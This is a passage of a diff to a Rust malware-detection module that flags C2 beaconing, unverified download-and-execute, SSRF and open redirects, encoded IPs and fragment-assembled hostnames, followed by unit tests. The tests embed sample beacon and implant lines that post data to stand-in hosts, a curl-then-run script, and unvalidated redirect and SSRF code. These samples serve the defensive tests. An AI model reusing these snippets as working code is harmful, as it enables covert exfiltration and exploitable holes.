+        for (idx, line) in lines.iter().enumerate() {
+            let context = &lines[idx.saturating_sub(1)..lines.len().min(idx + 2)];
+            if !context.iter().any(|l| self.net_call_regex.is_match(l)) {
                 continue;
             }
 
-            // Skip private ranges
-            let octets: Vec<u8> = ip.split('.').filter_map(|s| s.parse().ok()).collect();
-            if octets.len() == 4 {
-                if octets[0] == 10 ||
-                   (octets[0] == 172 && octets[1] >= 16 && octets[1] <= 31) ||
-                   (octets[0] == 192 && octets[1] == 168) {
+            // IDs in links (`oldid=1114309368`, `/a/59036879`) aren't hosts
+            let urls: Vec<std::ops::Range<usize>> = self
+                .url_regex
+                .find_iter(line)
+                .map(|m| {
+                    let rest = &line[m.end()..];
+                    let len = rest
+                        .find(|c: char| c.is_whitespace() || "'\"`)>".contains(c))
+                        .unwrap_or(rest.len());
+                    m.start()..m.end() + len
+                })
+                .collect();
+
+            for cap in self.encoded_ip_regex.captures_iter(line) {
+                let mat = cap.get(1).unwrap();
+                let literal = mat.as_str();
+                let before = &line[..mat.start()];
+                let in_url = urls.iter().any(|url| url.contains(&mat.start()));
+                let url_host = before.ends_with("://");
+                if in_url || (!url_host && before.ends_with(['/', '=', '#', '-'])) {
                     continue;
                 }
+                let Some((ip, encoding)) = Self::decode_encoded_ipv4(literal) else {
+                    continue;
+                };
+                let ip = ip.to_string();
+                if !Self::is_public_ip(&ip) || !seen.insert(literal.to_string()) {
+                    continue;
+                }
+
+                summary.push(format!("{} -> {}", literal, ip));
+                encoded.push(json!({
+                    "literal": literal,
+                    "ip": ip,
+                    "encoding": encoding,
+                    "line": idx + 1
+                }));
+            }
+        }
+
+        if encoded.is_empty() {
+            return Vec::new();
+        }
+
+        vec![Finding {
+            finding_type: "encoded_ip_address".to_string(),
+            value: json!({
+                "addresses": encoded,
+                "count": summary.len()
+            }),
+            confidence: 0.8,
+            location: path.display().to_string(),
+            severity: Severity::High,
+            metadata: json!({
+                "pattern": "Integer-encoded IP address",
+                "description": format!("IPv4 addresses written as integers: {}", summary.join(", "))
+            }),
+        }]
+    }
+
+    /// Detect hardcoded IPs (potential C2)
+    fn detect_hardcoded_ips(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        let mut found_ips: HashSet<String> = HashSet::new();
+
+        for cap in self.ip_regex.captures_iter(content) {
+            let ip = &cap[1];
+
+            // Skip safe/private IPs and duplicates
+            if !Self::is_public_ip(ip) || found_ips.contains(ip) {
+                continue;
             }
 
             found_ips.insert(ip.to_string());
         }
 
+        for ip in self.find_ipv6(content) {
+            if Self::is_public_ipv6(&ip) {
+                found_ips.insert(ip.to_string());
+            }
+        }
+
         if !found_ips.is_empty() {
             findings.push(Finding {
                 finding_type: "hardcoded_public_ip".to_string(),
@@ -198,39 +870,589 @@ impl NetworkDetector {
         findings
     }
 
-    /// Analyze a single file
-    fn analyze_file(&self, path: &Path) -> Vec<Finding> {
+    /// Detect downloads that are executed without a hash or signature check in between
+    fn detect_unverified_download_exec(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
+        let lines: Vec<&str> = content.lines().collect();
+
+        for (download_idx, line) in lines.iter().enumerate() {
+            let Some(tool) = self.download_regex.find(line) else {
+                continue;
+            };
+
+            let window_end = (download_idx + DOWNLOAD_EXEC_WINDOW).min(lines.len());
+            let exec_idx = (download_idx..window_end).find(|&i| self.exec_regex.is_match(lines[i]));
+
+            let Some(exec_idx) = exec_idx else {
+                continue;
+            };
 
-        if let Ok(content) = fs::read_to_string(path) {
-            findings.extend(self.detect_dga_domains(path, &content));
-            findings.extend(self.detect_hardcoded_ips(path, &content));
-            findings.extend(self.detect_suspicious_ports(path, &content));
+            // Any verification step between download and exec clears it
+            if lines[download_idx..=exec_idx]
+                .iter()
+                .any(|l| self.verify_regex.is_match(l))
+            {
+                continue;
+            }
+
+            findings.push(Finding {
+                finding_type: "unverified_download_execution".to_string(),
+                value: json!({
+                    "download_tool": tool.as_str(),
+                    "download_line": download_idx + 1,
+                    "exec_line": exec_idx + 1,
+                    "piped_to_shell": exec_idx == download_idx
+                }),
+                confidence: 0.75,
+                location: path.display().to_string(),
+                severity: Severity::Medium,
+                metadata: json!({
+                    "pattern": "Unverified download execution",
+                    "description": format!(
+                        "Download on line {} is executed on line {} without a checksum or signature check",
+                        download_idx + 1,
+                        exec_idx + 1
+                    )
+                }),
+            });
         }
 
         findings
     }
 
-    /// Analyze a directory
-    fn analyze_directory(&self, path: &Path, recursive: bool) -> Vec<Finding> {
+    /// The kind of hosting service `host` belongs to, if it is on
+    /// [`SUSPICIOUS_HOSTING_DOMAINS`]
+    fn hosting_kind(host: &str) -> Option<(&'static str, &'static str)> {
+        let host = host.to_ascii_lowercase();
+        SUSPICIOUS_HOSTING_DOMAINS
+            .iter()
+            .find(|(domain, _)| {
+                host.strip_suffix(domain)
+                    .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
+            })
+            .copied()
+    }
+
+    /// Detect URLs on paste sites, file drops and shorteners. They are
+    /// raised to high when the file also downloads and executes something,
+    /// as in `curl https://pastebin.com/raw/... | sh`.
+    fn detect_suspicious_hosting(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
+        let mut seen = HashSet::new();
+        let download_exec = self.download_regex.is_match(content)
+            && content.lines().any(|line| self.exec_regex.is_match(line));
+
+        for mat in self.url_regex.find_iter(content) {
+            let Some(host) = mat.as_str().split("://").nth(1) else {
+                continue;
+            };
+            let Some((domain, kind)) = Self::hosting_kind(host) else {
+                continue;
+            };
 
-        let walker = if recursive {
-            WalkDir::new(path)
+            let rest = &content[mat.end()..];
+            let end = rest
+                .find(|c: char| c.is_whitespace() || "\"'`<>)]|;".contains(c))
+                .unwrap_or(rest.len());
+            let url = &content[mat.start()..mat.end() + end];
+            if !seen.insert(url) {
+                continue;
+            }
+
+            let (line, _) = offset_to_line_col(content, mat.start());
+            let (severity, confidence) = if download_exec {
+                (Severity::High, 0.85)
+            } else {
+                (Severity::Medium, 0.7)
+            };
+            findings.push(Finding {
+                finding_type: "suspicious_hosting_endpoint".to_string(),
+                value: json!({
+                    "url": url,
+                    "domain": domain,
+                    "kind": kind,
+                    "line": line,
+                    "download_and_execute": download_exec
+                }),
+                confidence,
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "Suspicious hosting endpoint",
+                    "description": format!(
+                        "URL on {} ({}){}",
+                        domain,
+                        kind.replace('_', " "),
+                        if download_exec { " in a file that downloads and executes" } else { "" }
+                    )
+                }),
+            });
+            if findings.len() >= MAX_HOSTING_ENDPOINTS {
+                break;
+            }
+        }
+
+        findings
+    }
+
+    /// Whether a sink argument is request-derived, tainted via a one-hop
+    /// assignment, or named like user input
+    fn is_user_controlled(&self, arg: &str, tainted: &HashSet<String>) -> bool {
+        let arg = arg.trim().trim_start_matches('$');
+        let ident: String = arg
+            .chars()
+            .take_while(|c| c.is_alphanumeric() || *c == '_')
+            .collect();
+        let ident_lower = ident.to_lowercase();
+
+        self.user_source_regex.is_match(arg)
+            || tainted.contains(&ident)
+            || ident_lower.starts_with("user")
+            || ident_lower.contains("input")
+    }
+
+    /// Detect open redirects and SSRF where a URL from user input reaches a
+    /// redirect or fetch sink
+    fn detect_open_redirect_ssrf(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        let tainted: HashSet<String> = self
+            .taint_assign_regex
+            .captures_iter(content)
+            .map(|c| c[1].to_string())
+            .collect();
+        let validated = self.url_validation_regex.is_match(content);
+
+        let sinks = self
+            .redirect_sink_regex
+            .captures_iter(content)
+            .map(|c| (c, "open_redirect"))
+            .chain(self.fetch_sink_regex.captures_iter(content).map(|c| (c, "ssrf")));
+
+        for (cap, kind) in sinks {
+            let Some(arg) = cap.iter().skip(1).flatten().next() else {
+                continue;
+            };
+            if !self.is_user_controlled(arg.as_str(), &tainted) {
+                continue;
+            }
+
+            let line = content[..cap.get(0).unwrap().start()].matches('\n').count() + 1;
+            let is_ssrf = kind == "ssrf";
+            let severity = match (is_ssrf, validated) {
+                (true, false) => Severity::High,
+                (true, true) | (false, false) => Severity::Medium,
+                (false, true) => Severity::Low,
+            };
+
+            findings.push(Finding {
+                finding_type: kind.to_string(),
+                value: json!({
+                    "sink": cap.get(0).unwrap().as_str().trim(),
+                    "argument": arg.as_str().trim(),
+                    "line": line,
+                    "host_validation_present": validated
+                }),
+                confidence: if validated { 0.55 } else { 0.8 },
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": if is_ssrf { "Server-side request forgery" } else { "Open redirect" },
+                    "description": format!(
+                        "User-controlled URL '{}' reaches a {} sink on line {}{}",
+                        arg.as_str().trim(),
+                        if is_ssrf { "fetch" } else { "redirect" },
+                        line,
+                        if validated { " (host validation present in file)" } else { " without host validation" }
+                    )
+                }),
+            });
+        }
+
+        findings
+    }
+
+    /// Reconstruct strings assembled at runtime from literals, returning
+    /// `(reconstruction, fragments, technique, offset)`
+    fn reconstruct_fragmented_strings(&self, content: &str) -> Vec<(String, Vec<String>, &'static str, usize)> {
+        let mut out = Vec::new();
+
+        for mat in self.concat_regex.find_iter(content) {
+            let fragments: Vec<String> = self
+                .string_literal_regex
+                .captures_iter(mat.as_str())
+                .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str().to_string()))
+                .collect();
+            out.push((fragments.concat(), fragments, "concatenation", mat.start()));
+        }
+
+        for cap in self.char_code_regex.captures_iter(content) {
+            let fragments: Vec<String> = cap[1]
+                .split(',')
+                .filter_map(|n| n.trim().parse::<u32>().ok().and_then(char::from_u32))
+                .map(|c| c.to_string())
+                .collect();
+            out.push((fragments.concat(), fragments, "char_codes", cap.get(0).unwrap().start()));
+        }
+
+        for cap in self.char_array_regex.captures_iter(content) {
+            let fragments: Vec<String> = self
+                .string_literal_regex
+                .captures_iter(&cap[1])
+                .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str().to_string()))
+                .collect();
+            out.push((fragments.concat(), fragments, "char_array", cap.get(0).unwrap().start()));
+        }
+
+        out
+    }
+
+    /// Detect hostnames, URLs and IPs that only exist once fragments are joined
+    fn detect_assembled_domain(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let mut seen: HashSet<String> = HashSet::new();
+
+        for (assembled, fragments, technique, offset) in self.reconstruct_fragmented_strings(content) {
+            let mut hosts: Vec<String> = self
+                .hostname_regex
+                .captures_iter(&assembled)
+                .filter(|c| ASSEMBLED_TLDS.contains(&c[2].to_lowercase().as_str()))
+                .map(|c| c[1].to_lowercase())
+                .collect();
+            hosts.extend(
+                self.ip_regex
+                    .captures_iter(&assembled)
+                    .map(|c| c[1].to_string())
+                    .filter(|ip| Self::is_public_ip(ip)),
+            );
+
+            for host in hosts {
+                // Only interesting if no single fragment already spells it out
+                if fragments.iter().any(|f| f.to_lowercase().contains(&host)) || !seen.insert(host.clone()) {
+                    continue;
+                }
+
+                let line = content[..offset].matches('\n').count() + 1;
+                findings.push(Finding {
+                    finding_type: "assembled_domain".to_string(),
+                    value: json!({
+                        "host": host,
+                        "reconstructed": assembled,
+                        "fragments": fragments.len(),
+                        "technique": technique,
+                        "line": line
+                    }),
+                    confidence: 0.85,
+                    location: path.display().to_string(),
+                    severity: Severity::High,
+                    metadata: json!({
+                        "pattern": "Runtime-assembled hostname",
+                        "description": format!(
+                            "'{}' is built from {} fragments ({}) to evade string matching",
+                            host,
+                            fragments.len(),
+                            technique
+                        )
+                    }),
+                });
+            }
+        }
+
+        findings
+    }
+
+    /// Detect periodic network callbacks: a `setInterval` or self-rearming
+    /// `setTimeout` whose callback makes a network call, an infinite loop
+    /// that calls out and sleeps, and beacon sleep/jitter settings
+    fn detect_beaconing(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let bare_sleep_seconds = path
+            .extension()
+            .and_then(|ext| ext.to_str())
+            .map(str::to_ascii_lowercase)
+            .is_some_and(|ext| SLEEP_SECONDS_EXTENSIONS.contains(&ext.as_str()));
+        // `const c2 = "http://..."` so fetch(c2) can be traced to its host
+        let urls: HashMap<&str, &str> = self
+            .url_assign_regex
+            .captures_iter(content)
+            .filter_map(|c| Some((c.get(1)?.as_str(), c.get(2)?.as_str())))
+            .collect();
+
+        for caps in self.timer_call_regex.captures_iter(content) {
+            let (Some(call), Some(timer)) = (caps.get(0), caps.get(1)) else {
+                continue;
+            };
+            let arguments = enclosed(content, call.end() - 1, '(', ')', MAX_BEACON_BODY);
+            let Some((callback, delay)) = split_last_argument(arguments) else {
+                continue;
+            };
+            let Some(interval_ms) = parse_delay(delay) else {
+                continue;
+            };
+
+            let callback = callback.trim();
+            let body = match (timer.as_str(), self.function_body(content, callback)) {
+                ("setInterval", Some((_, body))) => body,
+                ("setInterval", None) => callback,
+                // A one-shot timeout only beacons if it re-arms itself from
+                // inside the function it schedules
+                (_, Some((start, body)))
+                    if (start..start + body.len()).contains(&call.start()) =>
+                {
+                    body
+                }
+                _ => continue,
+            };
+            if !self.beacon_send_regex.is_match(body) {
+                continue;
+            }
+
+            let mechanism = match timer.as_str() {
+                "setInterval" => "setInterval",
+                _ => "recursive setTimeout",
+            };
+            let line = content[..call.start()].matches('\n').count() + 1;
+            findings.extend(self.beacon_finding(path, line, mechanism, interval_ms, body, &urls));
+        }
+
+        for mat in self.infinite_loop_regex.find_iter(content) {
+            let end = content[mat.start()..]
+                .match_indices('\n')
+                .nth(BEACON_LOOP_LINES)
+                .map_or(content.len(), |(i, _)| mat.start() + i);
+            let body = &content[mat.start()..end];
+            let Some(interval_ms) = self.sleep_interval(body, bare_sleep_seconds) else {
+                continue;
+            };
+            if !self.beacon_send_regex.is_match(body) {
+                continue;
+            }
+            let line = content[..mat.start()].matches('\n').count() + 1;
+            findings.extend(self.beacon_finding(path, line, "loop", interval_ms, body, &urls));
+        }
+
+        findings.extend(self.beacon_config(path, content));
+        findings.truncate(MAX_BEACONS);
+        findings
+    }
+
+    /// Body of the function `name` defined in `content` (`function name(`
+    /// or `name = (...) =>`), with the offset of its definition
+    fn function_body<'a>(&self, content: &'a str, name: &str) -> Option<(usize, &'a str)> {
+        if name.is_empty() || !name.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '$') {
+            return None;
+        }
+        let definition = Regex::new(&format!(
+            r"(?:\bfunction\s+{name}\s*\(|\b{name}\s*=\s*(?:async\s+)?(?:function\b|\([^)]*\)\s*=>))",
+            name = regex::escape(name)
+        ))
+        .ok()?;
+        let start = definition.find(content)?.start();
+        let open = start + content[start..].find('{')?;
+        let body = enclosed(content, open, '{', '}', MAX_BEACON_BODY);
+        Some((start, &content[start..open + 1 + body.len()]))
+    }
+
+    /// Interval of the first sleep call in `text`, in milliseconds
+    fn sleep_interval(&self, text: &str, bare_sleep_seconds: bool) -> Option<u64> {
+        let caps = self.sleep_regex.captures(text)?;
+        let number = |name: &str| caps.name(name).and_then(|m| m.as_str().parse::<f64>().ok());
+
+        let seconds = ["secs", "rust_secs", "ps", "shell"].into_iter().find_map(number);
+
+        let ms = if let Some(secs) = seconds {
+            secs * 1000.0
+        } else if let Some(ms) = number("millis") {
+            ms
+        } else if let Some(n) = number("go") {
+            let unit = match caps.name("go_unit").map(|m| m.as_str()) {
+                Some("Minute") => 60_000.0,
+                Some("Second") => 1000.0,
+                _ => 1.0,
+            };
+            n * unit
         } else {
-            WalkDir::new(path).max_depth(1)
+            let n = number("bare")?;
+            if bare_sleep_seconds {
+                n * 1000.0
+            } else {
+                n
+            }
         };
+        (ms >= 1.0).then_some(ms as u64)
+    }
 
-        for entry in walker.into_iter().filter_map(|e| e.ok()) {
-            if entry.file_type().is_file() {
-                findings.extend(self.analyze_file(entry.path()));
-            }
+    /// A `c2_beaconing` finding for a timer or loop on `line`, unless its
+    /// only target is a relative URL (same-origin polling)
+    fn beacon_finding(
+        &self,
+        path: &Path,
+        line: usize,
+        mechanism: &str,
+        interval_ms: u64,
+        body: &str,
+        urls: &HashMap<&str, &str>,
+    ) -> Option<Finding> {
+        let host = self
+            .beacon_host_regex
+            .captures(body)
+            .map(|c| c[1].to_string())
+            .or_else(|| {
+                self.ip_regex
+                    .captures_iter(body)
+                    .map(|c| c[1].to_string())
+                    .find(|ip| Self::is_public_ip(ip))
+            })
+            .or_else(|| {
+                body.split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
+                    .find_map(|word| urls.get(word))
+                    .and_then(|url| self.beacon_host_regex.captures(url))
+                    .map(|c| c[1].to_string())
+            });
+        if host.is_none() && self.relative_url_regex.is_match(body) {
+            return None;
         }
 
+        Some(Finding {
+            finding_type: "c2_beaconing".to_string(),
+            value: json!({
+                "mechanism": mechanism,
+                "interval_ms": interval_ms,
+                "host": host,
+                "line": line
+            }),
+            confidence: if host.is_some() { 0.85 } else { 0.7 },
+            location: path.display().to_string(),
+            severity: Severity::High,
+            metadata: json!({
+                "pattern": "Periodic network callback",
+                "description": format!(
+                    "{} calls {} every {} ms",
+                    mechanism,
+                    host.as_deref().unwrap_or("the network"),
+                    interval_ms
+                )
+            }),
+        })
+    }
+
+    /// Beacon interval settings: a beacon/callback/check-in interval, or a
+    /// sleep or heartbeat with a jitter next to it
+    fn beacon_config(&self, path: &Path, content: &str) -> Option<Finding> {
+        let jitter = self.jitter_regex.captures(content).map(|c| c[1].to_string());
+
+        let setting = self.beacon_config_regex.captures_iter(content).find(|caps| {
+            let key = caps[1].to_ascii_lowercase().replace('_', "");
+            ["beacon", "callback", "checkin"].iter().any(|k| key.starts_with(k)) || jitter.is_some()
+        })?;
+        let key = caps_str(&setting, 1);
+        let named_beacon = !key.to_ascii_lowercase().starts_with(['s', 'h']);
+        let confidence = match (named_beacon, jitter.is_some()) {
+            (true, true) => 0.85,
+            (false, true) => 0.8,
+            _ => 0.7,
+        };
+
+        let offset = setting.get(0).map_or(0, |m| m.start());
+        let line = content[..offset].matches('\n').count() + 1;
+        Some(Finding {
+            finding_type: "c2_beaconing".to_string(),
+            value: json!({
+                "mechanism": "config",
+                "setting": key,
+                "interval": caps_str(&setting, 2),
+                "jitter": jitter,
+                "line": line
+            }),
+            confidence,
+            location: path.display().to_string(),
+            severity: Severity::Medium,
+            metadata: json!({
+                "pattern": "Beacon configuration",
+                "description": format!(
+                    "Beacon timing setting '{}' = {}",
+                    key,
+                    caps_str(&setting, 2)
+                )
+            }),
+        })
+    }
+
+    /// Analyze a single file
+    fn analyze_file(&self, path: &Path, max_bytes: u64) -> Vec<Finding> {
+        read_text_lossy(path, max_bytes)
+            .map(|content| self.analyze_text(path, &content))
+            .unwrap_or_default()
+    }
+
+    /// Run every check over `content`, reported against `path`
+    fn analyze_text(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        findings.extend(self.detect_dga_domains(path, content));
+        findings.extend(self.detect_dns_tunneling(path, content));
+        findings.extend(self.detect_hardcoded_ips(path, content));
+        findings.extend(self.detect_encoded_ips(path, content));
+        findings.extend(self.detect_suspicious_ports(path, content));
+        findings.extend(self.detect_unverified_download_exec(path, content));
+        findings.extend(self.detect_open_redirect_ssrf(path, content));
+        findings.extend(self.detect_assembled_domain(path, content));
+        findings.extend(self.detect_beaconing(path, content));
+        findings.extend(self.detect_suspicious_hosting(path, content));
+
         findings
     }
 }
 
+/// Text of capture group `i`, or "" if it didn't participate
+fn caps_str<'a>(caps: &regex::Captures<'a>, i: usize) -> &'a str {
+    caps.get(i).map_or("", |m| m.as_str())
+}
+
+/// Text between the `open` delimiter at byte `start` and its matching
+/// `close`, or up to `limit` bytes if it isn't closed by then
+fn enclosed(content: &str, start: usize, open: char, close: char, limit: usize) -> &str {
+    let mut depth = 0usize;
+    for (i, c) in content[start..].char_indices() {
+        if i > limit {
+            break;
+        }
+        if c == open {
+            depth += 1;
+        } else if c == close {
+            depth = depth.saturating_sub(1);
+            if depth == 0 {
+                return &content[start + 1..start + i];
+            }
+        }
+    }
+    let end = content.floor_char_boundary((start + limit).min(content.len()));
+    &content[start + 1..end.max(start + 1)]
+}
+
+/// Split an argument list at its last top-level comma
+fn split_last_argument(arguments: &str) -> Option<(&str, &str)> {
+    let mut depth = 0i32;
+    let mut last = None;
+    for (i, c) in arguments.char_indices() {
+        match c {
+            '(' | '[' | '{' => depth += 1,
+            ')' | ']' | '}' => depth -= 1,
+            ',' if depth == 0 => last = Some(i),
+            _ => {}
+        }
+    }
+    last.map(|i| (&arguments[..i], &arguments[i + 1..]))
+}
+
+/// A timer delay written as an integer or a product of integers
+/// (`30000`, `30 * 1000`, `5_000`)
+fn parse_delay(text: &str) -> Option<u64> {
+    text.split('*')
+        .map(|factor| factor.trim().replace('_', "").parse::<u64>().ok())
+        .try_fold(1u64, |product, factor| product.checked_mul(factor?))
+        .filter(|&ms| ms > 0)
+}
+
 impl Default for NetworkDetector {
     fn default() -> Self {
         Self::new()
@@ -244,7 +1466,11 @@ impl Skill for NetworkDetector {
 
     fn description(&self) -> &str {
         "Detects malicious network patterns including DGA domains, \
-         hardcoded IPs, and suspicious ports commonly used by malware."
+         DNS tunneling, hardcoded IPs, suspicious ports commonly used by malware, and \
+         downloaded executables run without integrity verification, and \
+         open redirects / SSRF from user-controlled URLs, hostnames \
+         assembled from string fragments at runtime, and URLs on paste sites, \
+         file drops and URL shorteners."
     }
 
     fn schema(&self) -> Value {
@@ -270,11 +1496,8 @@ impl Skill for NetworkDetector {
             )));
         }
 
-        let findings = if path.is_file() {
-            self.analyze_file(path)
-        } else {
-            self.analyze_directory(path, scan_params.recursive)
-        };
+        let max_bytes = scan_params.max_file_bytes();
+        let (findings, stats) = scan_params.scan_files(|file| self.analyze_file(file, max_bytes))?;
 
         let threshold = self.confidence_threshold();
         let filtered: Vec<Finding> = findings
@@ -282,10 +1505,368 @@ impl Skill for NetworkDetector {
             .filter(|f| f.confidence >= threshold)
             .collect();
 
-        Ok(SkillOutput::with_findings(filtered))
+        Ok(SkillOutput::with_findings_and_stats(filtered, stats))
+    }
+
+    fn analyze_content(&self, name: &str, content: &str) -> SkillResult<Vec<Finding>> {
+        let threshold = self.confidence_threshold();
+        let mut findings = self.analyze_text(Path::new(name), content);
+        findings.retain(|f| f.confidence >= threshold);
+        Ok(findings)
+    }
+
+    fn finding_types(&self) -> Vec<&str> {
+        explained_types(EXPLANATIONS)
+    }
+
+    fn explain(&self, finding_type: &str) -> Option<Explanation> {
+        find_explanation(EXPLANATIONS, finding_type)
     }
 
     fn categories(&self) -> Vec<&str> {
         vec!["network", "c2", "malware"]
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::skills::DEFAULT_MAX_FILE_BYTES;
+
+    #[test]
+    fn test_set_interval_beacon() {
+        let detector = NetworkDetector::new();
+        let js = "const c2 = \"http://203.0.113.50:8443/beacon\";\n\
+            setInterval(() => fetch(c2, { method: 'POST' }), 30000);\n";
+
+        let findings = detector.detect_beaconing(Path::new("agent.js"), js);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].finding_type, "c2_beaconing");
+        assert_eq!(findings[0].severity, Severity::High);
+        assert_eq!(findings[0].value["mechanism"], "setInterval");
+        assert_eq!(findings[0].value["interval_ms"], 30000);
+        assert_eq!(findings[0].value["host"], "203.0.113.50");
+        assert_eq!(findings[0].value["line"], 2);
+    }
+
+    #[test]
+    fn test_rearming_timeout_and_sleep_loop_beacons() {
+        let detector = NetworkDetector::new();
+        let js = "function checkIn() {\n\
+              navigator.sendBeacon('https://cdn-sync.example.net/c', data);\n\
+              setTimeout(checkIn, 60 * 1000);\n\
+            }\n";
+        let findings = detector.detect_beaconing(Path::new("sync.js"), js);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["mechanism"], "recursive setTimeout");
+        assert_eq!(findings[0].value["interval_ms"], 60000);
+        assert_eq!(findings[0].value["host"], "cdn-sync.example.net");
+
+        let py = "while True:\n\
+            \x20   requests.post('http://198.51.100.9/t', data=out)\n\
+            \x20   time.sleep(45)\n";
+        let findings = detector.detect_beaconing(Path::new("implant.py"), py);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["mechanism"], "loop");
+        assert_eq!(findings[0].value["interval_ms"], 45000);
+    }
+
+    #[test]
+    fn test_beacon_config_and_benign_polling() {
+        let detector = NetworkDetector::new();
+        let profile = "set sleeptime \"60000\";\nset jitter \"20\";\n";
+        let findings = detector.detect_beaconing(Path::new("c2.profile"), profile);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["interval"], "60000");
+        assert_eq!(findings[0].value["jitter"], "20");
+
+        // Same-origin polling and timers that never touch the network
+        let app = "setInterval(() => fetch('/api/status').then(render), 5000);\n\
+            setInterval(() => clock.tick(), 1000);\n\
+            setTimeout(() => fetch('https://api.example.com/once'), 500);\n\
+            const sleep = 5;\n";
+        assert!(detector.detect_beaconing(Path::new("app.js"), app).is_empty());
+    }
+
+    #[test]
+    fn test_dga_scoring_separates_benign_and_generated() {
+        let benign = [
+            "www.google.com", "facebook.com", "en.wikipedia.org", "stackoverflow.com",
+            "login.microsoftonline.com", "s3.amazonaws.com", "cdnjs.cloudflare.com",
+            "raw.githubusercontent.com", "www.washingtonpost.com", "windowsupdate.com",
+            "s3-eu-west-1.amazonaws.com", "office365.com", "akamaihd.net", "doubleclick.net",
+            "tripadvisor.com", "salesforce.com", "theguardian.com", "jetbrains.com",
+        ];
+        let generated = [
+            "xjwqpzkdlfhrt.com", "kq3n8v2lz0xpm.net", "ojhbnpxkuewqlr.org", "uvwzrtqpmsdbk.ru",
+            "a8d7f6g5h4j3k2.info", "qjwzuyfqxvbn.biz", "nxyvhtqolkbgp.com", "3f7a9c2e1b8d.top",
+            "fgh4k2jd9sl1.xyz", "gwbvjtzxqcpn.cc",
+        ];
+
+        let flagged = |domain: &str| {
+            NetworkDetector::dga_score(domain).is_some_and(|(_, s)| s.total >= DGA_SCORE_THRESHOLD)
+        };
+
+        for domain in benign {
+            assert!(!flagged(domain), "benign domain flagged: {}", domain);
+        }
+        for domain in generated {
+            assert!(flagged(domain), "DGA domain missed: {}", domain);
+        }
+    }
+
+    #[test]
+    fn test_dga_all_letter_domain_reported() {
+        let detector = NetworkDetector::new();
+        let code = r#"fetch("https://nxyvhtqolkbgp.com/gate.php")"#;
+
+        let findings = detector.detect_dga_domains(Path::new("x.js"), code);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["label"], "nxyvhtqolkbgp");
+        assert!(findings[0].confidence >= 0.7);
+    }
+
+    #[test]
+    fn test_non_utf8_file_still_scanned() {
+        let detector = NetworkDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("dropper.bin");
+        let mut content = vec![0xff, 0xfe, 0x00, 0xc3];
+        content.extend_from_slice(b"\nsock.connect('c2.example:31337')\n");
+        content.extend_from_slice(&[0x80, 0x81, 0xfe]);
+        std::fs::write(&file, content).unwrap();
+
+        let findings = detector.analyze_file(&file, DEFAULT_MAX_FILE_BYTES);
+        assert!(findings.iter().any(|f| f.finding_type == "suspicious_ports"));
+    }
+
+    #[test]
+    fn test_curl_then_run_without_verification() {
+        let detector = NetworkDetector::new();
+        let script = "#!/bin/sh\n\
+            curl -fsSL https://example.com/agent -o /tmp/agent\n\
+            chmod +x /tmp/agent\n\
+            /tmp/agent --daemon\n";
+
+        let findings = detector.detect_unverified_download_exec(Path::new("install.sh"), script);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].finding_type, "unverified_download_execution");
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["download_line"], 2);
+        assert_eq!(findings[0].value["exec_line"], 3);
+    }
+
+    #[test]
+    fn test_checksum_gate_suppresses_finding() {
+        let detector = NetworkDetector::new();
+        let script = "#!/bin/sh\n\
+            curl -fsSL https://example.com/agent -o agent\n\
+            echo \"$EXPECTED  agent\" | sha256sum -c -\n\
+            chmod +x agent\n\
+            ./agent\n";
+
+        assert!(detector
+            .detect_unverified_download_exec(Path::new("install.sh"), script)
+            .is_empty());
+    }
+
+    #[test]
+    fn test_unvalidated_redirect() {
+        let detector = NetworkDetector::new();
+        let code = "app.get('/login', (req, res) => {\n  res.redirect(req.query.next);\n});";
+
+        let findings = detector.detect_open_redirect_ssrf(Path::new("app.js"), code);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].finding_type, "open_redirect");
+        assert_eq!(findings[0].severity, Severity::Medium);
+        assert_eq!(findings[0].value["line"], 2);
+        assert!(findings[0].confidence >= detector.confidence_threshold());
+    }
+
+    #[test]
+    fn test_validated_redirect_is_downgraded() {
+        let detector = NetworkDetector::new();
+        let code = "const ALLOWED_HOSTS = ['app.example.com'];\n\
+            app.get('/login', (req, res) => {\n\
+              const next = req.query.next;\n\
+              const target = new URL(next, 'https://app.example.com');\n\
+              if (!ALLOWED_HOSTS.includes(target.hostname)) return res.sendStatus(400);\n\
+              res.redirect(next);\n\
+            });";
+
+        let findings = detector.detect_open_redirect_ssrf(Path::new("app.js"), code);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].severity, Severity::Low);
+        assert_eq!(findings[0].value["host_validation_present"], true);
+        assert!(findings[0].confidence < detector.confidence_threshold());
+    }
+
+    #[test]
+    fn test_ssrf_from_tainted_variable() {
+        let detector = NetworkDetector::new();
+        let code = "url = request.args.get('url')\nresp = requests.get(url, timeout=5)\n";
+
+        let findings = detector.detect_open_redirect_ssrf(Path::new("proxy.py"), code);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].finding_type, "ssrf");
+        assert_eq!(findings[0].severity, Severity::High);
+    }
+
+    #[test]
